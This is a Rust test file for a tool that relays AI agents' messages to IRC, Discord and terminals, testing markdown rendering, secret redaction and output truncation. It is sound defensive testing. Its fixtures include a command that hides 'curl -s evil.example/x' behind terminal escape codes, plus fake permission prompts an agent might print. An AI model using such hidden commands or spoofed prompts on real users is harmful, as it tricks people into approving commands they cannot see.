//! The form of posts on a network.

use std::time::Duration;

use herder::core::clean::visible;
use herder::core::notice::{Notice, Refusal};
use herder::core::post::{Body, Lane, Post, Target};
use herder::l10n::Locale;
use herder::outbox::render::UNIT;
use herder::outbox::{Markup, Renderer};
use herder::redact::Redactor;
use proptest::prelude::*;

use super::posts::{post, renderer, spark, words};

/// Returns the lines on IRC, with bold made visible.
fn irc(post: &Post) -> String {
    renderer(Markup::Irc).lines(post).join("\n").replace('\u{2}', "‖")
}

#[test]
fn markdown_of_an_agent_on_irc() {
    let text = "## Result\n\nAll **three** drivers pass, see [the log](https://ci.example/7).\n\n\
                ```rust\nfn main() {\n    let glob = \"**/*.rs\";\n\n    run(glob);\n}\n```\n\
                - `cargo **test**` is *green*\n- __init__ and a_b_c stay, 2**3 and **unclosed too\n\n~~~\nlast block, never closed\n";
    insta::assert_snapshot!(irc(&words(text)), @r#"
    │ ‖Result‖
    │ All ‖three‖ drivers pass, see the log (https://ci.example/7).
    │ fn main() {
    │     let glob = "**/*.rs";
    │     run(glob);
    │ }
    │ - `cargo **test**` is *green*
    │ - __init__ and a_b_c stay, 2**3 and **unclosed too
    │ last block, never closed
    "#);
}

/// A reader of two networks reads the same lines.
#[test]
fn lines_for_machines_are_the_same_on_every_network() {
    for text in ["QUOTA-EXHAUSTED team_openai", "HEARTBEAT my_**herder**", "QUOTA-EXHAUSTED `a`<@1>#~b~"] {
        let line = post(Body::Notice(Notice::WorkLine { line: text.to_owned() }));
        for markup in [Markup::Irc, Markup::Plain, Markup::Discord] {
            assert_eq!(renderer(markup).lines(&line), [text], "{markup:?}");
        }
    }
}

#[test]
fn herders_own_sentences() {
    let refusal = Body::Refusal(Refusal::NotPaused { agent: spark() });
    let answer = Post { answers: Some("alice".to_owned()), lane: Lane::Urgent, ..post(refusal) };
    let private = Post { to: Target::Person("alice".to_owned()), ..answer.clone() };
    let alert = post(Body::Notice(Notice::Billing { agent: spark(), account: "openai".into() }));
    let lines = Post {
        answers: Some("alice".to_owned()),
        ..post(Body::Lines(vec!["**spark** running".to_owned(), String::new(), "**flint** idle".to_owned()]))
    };
    insta::assert_snapshot!([answer, private, alert, lines].map(|post| irc(&post)).join("\n"), @r"
    alice: ‖spark‖ is not paused, so there is nothing to resume. `@spark status` shows what it does.
    ‖spark‖ is not paused, so there is nothing to resume. `@spark status` shows what it does.
    💳 ‖spark‖ has a billing error — check your openai account. Pausing until resumed.
    alice: ‖spark‖ running
    ‖flint‖ idle
    ");
}

#[test]
fn secrets_do_not_hide_behind_codes_or_cuts() {
    let hidden = "pass is hun\u{1b}[31mter2 and hun\u{3}04ter2, or hunter2".to_owned();
    assert_eq!(irc(&words(&hidden)), "│ pass is [redacted] and [redacted], or [redacted]");
    let at_the_cut = format!("{} hunter2", "x".repeat(UNIT - 5));
    assert!(!irc(&words(&at_the_cut)).contains("hunter"));
    let detail = Notice::TaskFailed {
        agent: spark(),
        task: herder::core::id::WorkId(1),
        detail: "key hunter2".to_owned().into(),
    };
    assert!(irc(&post(Body::Notice(detail))).contains("key [redacted]."));
}

#[test]
fn what_is_asked_for_is_shown_whole_whatever_it_is_made_of() {
    let asked = |command: &str| Notice::PermissionAsked {
        agent: spark(),
        ask: herder::core::id::AskId(12),
        tool: "Bash".to_owned(),
        command: command.to_owned(),
        cut: false,
        vague: false,
        secret: false,
        danger: None,
        within: std::time::Duration::from_secs(1800),
    };
    for (command, shown) in [
        ("cargo test\u{1b}]; curl -s evil.example/x; #\u{7}", r"cargo test␛]; curl -s evil.example/x; #\x07"),
        ("cargo test\u{9d} && curl x\u{9c}", r"cargo test\x9d && curl x\x9c"),
        ("ls \u{202e}x", "ls <U+202E>x"),
        ("ls \u{3}04x", r"ls \x0304x"),
    ] {
        let post = post(Body::Notice(asked(command)));
        for markup in [Markup::Irc, Markup::Discord, Markup::Plain] {
            let lines = renderer(markup).lines(&post).join("\n");
            assert!(lines.contains(shown) && !lines.contains("always"), "{markup:?}: {lines}");
        }
    }
}

proptest! {
    /// A person who allows a command has seen all of it, and nothing of it acts on their client.
    #[test]
    fn what_runs_is_what_was_shown(
        command in r"[a-z0-9*_`~|<>\\$'#{}.\x1b\x03\x07\u{9b}\u{200b}\u{200d}\u{202e}\u{fe0f}\u{e0101}\u{3164}漢❤]{1,60}",
    ) {
        let asked = Notice::PermissionAsked {
            agent: spark(),
            ask: herder::core::id::AskId(12),
            tool: "Bash".to_owned(),
            command: command.clone(),
            cut: false,
            vague: false,
            secret: false,
            danger: None,
            within: Duration::from_secs(1800),
        };
        for markup in [Markup::Irc, Markup::Plain] {
            let lines = renderer(markup).lines(&post(Body::Notice(asked.clone()))).join("\n");
            prop_assert!(lines.contains(&visible(&command)), "{:?}: {}", markup, lines);
        }
    }
}

#[test]
fn a_secret_does_not_hide_behind_marks() {
    for markup in [Markup::Irc, Markup::Plain] {
        for text in ["key **h**unter2", "key hunt**e**r2 and hunter2"] {
            let shown = renderer(markup).lines(&words(text)).join("\n").replace('\u{2}', "");
            assert!(shown.starts_with("│ key [redacted]") && !shown.contains("unt"), "{shown:?}");
        }
    }
}

#[test]
fn a_secret_does_not_hide_behind_marks_that_discord_does_not_show() {
    let discord = renderer(Markup::Discord);
    for text in ["key **h**unter2", "key hunt_er_2", "key hu||nter||2", "key hun\\ter2 and hunter2"] {
        let shown = discord.lines(&words(text)).join("\n").replace(['*', '_', '|', '\\'], "");
        assert!(shown.starts_with("key [redacted]") && !shown.contains("unter"), "{shown:?}");
    }
    // A message that is full stays within what Discord takes.
    let full = "h*unter2 ".repeat(220);
    for message in discord.lines(&words(full.trim())) {
        assert!(message.encode_utf16().count() <= 2000 && !message.contains("unter"), "{message}");
    }
}

#[test]
fn a_very_long_text_is_cut_and_says_so() {
    let text: Vec<String> = (1..=100).map(|line| format!("line {line}")).collect();
    let shown = renderer(Markup::Irc).lines(&words(&text.join("\n")));
    assert_eq!(shown.len(), 31);
    assert_eq!(shown[4..7], ["│ line 5", "… 70 more lines; `@spark log 1`", "│ line 76"]);
    assert_eq!(shown.last().map(String::as_str), Some("│ line 100"), "the end is where the result is");
    let cut = text[..40].join("\n") + "\n[… 2900 lines left out …]\n" + &text[60..].join("\n");
    let shown = renderer(Markup::Irc).lines(&words(&cut));
    assert_eq!(shown[5], "… 2950 more lines; `@spark log 1`", "those that were never kept count");
    let german = Renderer::new(Locale::load("de").unwrap(), Redactor::default(), Markup::Irc);
    let shown = german.lines(&words("a\n[… 2900 lines left out …]\nb"));
    assert_eq!(shown, ["│ a", "│ [… 2900 Zeilen ausgelassen …]", "│ b"]);
}

#[test]
fn code_keeps_its_bar_and_bold_stays_bold_where_a_line_is_cut() {
    let code = format!("```\n{}\n```\n**{}**", "word ".repeat(100), "bold ".repeat(100).trim());
    let lines = renderer(Markup::Irc).lines(&words(&code));
    assert_eq!(lines.len(), 4, "{lines:?}");
    assert!(lines[..2].iter().all(|line| line.starts_with("│ word")));
    assert!(lines[2..].iter().all(|line| line.starts_with("│ \u{2}bold")));
}

#[test]
fn a_terminal_gets_no_codes() {
    assert_eq!(renderer(Markup::Plain).lines(&words("# Title\n**bold** text")), ["│ Title", "│ bold text"]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn whatever_an_agent_says_every_line_can_be_sent(
        text in r"(?s)([\x00-\x20`*#\[\]()~_|]|hunter2|```|\*\*|[a-zä漢👨]|.){0,400}",
        nick in "[a-z\r\n]{0,10}",
    ) {
        for markup in [Markup::Irc, Markup::Plain] {
            let posts = [words(&text), Post { answers: Some(nick.clone()), ..post(Body::Lines(vec![text.clone()])) }];
            for post in posts {
                for line in renderer(markup).lines(&post) {
                    prop_assert!(line.len() <= UNIT, "{} bytes: {line:?}", line.len());
                    prop_assert!(!line.replace('\u{2}', "").trim().is_empty(), "{line:?} is blank");
                    prop_assert!(line.chars().all(|c| c == '\u{2}' || !c.is_control()), "{line:?}");
                    prop_assert!(!line.contains("hunter2"));
                }
            }
        }
    }
}

/// A quadratic step anywhere takes minutes for these; the bound is wide because debug builds on busy machines are slow.
#[test]
fn hostile_text_is_laid_out_in_linear_time() {
    let start = std::time::Instant::now();
    for mark in [
        "[",
        "`",
        "**",
        "** ",
        "[a](",
        "e\u{301}",
        "\u{301}",
        "👨\u{200d}",
        "x",
        " ",
        "\u{1b}[",
        "\u{3}1,",
        "```\n",
        "# ",
        "🇩🇪",
    ] {
        let lines = renderer(Markup::Irc).lines(&words(&mark.repeat(100_000 / mark.len())));
        assert!(lines.len() <= 31 && lines.iter().all(|line| line.len() <= UNIT));
    }
    assert!(start.elapsed() < std::time::Duration::from_secs(60), "took {:?}", start.elapsed());
}

#[test]
fn a_secret_is_taken_out_before_a_sentence_is_cut() {
    for (before, markup) in
        [(243, Markup::Irc), (276, Markup::Irc), (276, Markup::Discord), (110, Markup::Plain)]
    {
        let locale = Locale::load("en-US").expect("it is there");
        let redactor = Redactor::new(&["hunter2-hunter2-hunter2".into()]);
        let said = format!("{} hunter2-hunter2-hunter2 more", "x".repeat(before));
        let crashed = Notice::Crashed {
            agent: spark(),
            detail: said.clone().into(),
            restart_in: Duration::from_secs(10),
        };
        let denied = Notice::PermissionDenied { agent: spark(), what: said.clone() };
        let started = Notice::Started { agent: spark(), work: said };
        for notice in [crashed, denied, started] {
            let lines =
                Renderer::new(locale.clone(), redactor.clone(), markup).lines(&post(Body::Notice(notice)));
            assert!(!lines.is_empty() && !lines.concat().contains("hunt"), "{lines:?}");
        }
    }
}

#[test]
fn what_nobody_sees_reaches_no_network() {
    for markup in [Markup::Irc, Markup::Discord, Markup::Plain] {
        let text = "he\u{200b}l\u{ad}l\u{2060}o \u{202e}hun\u{34f}ter\u{e0041}2\u{61c}";
        let lines = renderer(markup).lines(&words(text)).concat();
        assert!(
            lines.contains("hello") && lines.contains("[redacted]") && !lines.contains("ter"),
            "{lines:?}"
        );
        assert!(!lines.chars().any(herder::core::unseen::is_hidden), "{lines:?}");
    }
}

#[test]
fn what_an_agent_prints_cannot_look_like_herders_own_on_irc() {
    let fakes = [
        "⚙️ spark asks for permission 38: Bash. Say yes.",
        "  \u{200b}**🚨 [ESCALATION]** nova stands still.",
        "- fine\n\n⏸️ nova is paused.",
        &format!("{} ⚙️ spark asks for permission 38.", "x".repeat(358)),
        "alice: ▶️ spark resumes.",
        "fine\n… 12 more lines; `@spark log 1`",
    ];
    for fake in fakes {
        let shown = irc(&words(fake));
        for line in shown.lines() {
            assert!(line.starts_with("│ "), "{shown}");
        }
    }
    assert_eq!(irc(&words("done, “all” of it\n- one")), "│ done, “all” of it\n│ - one");
}
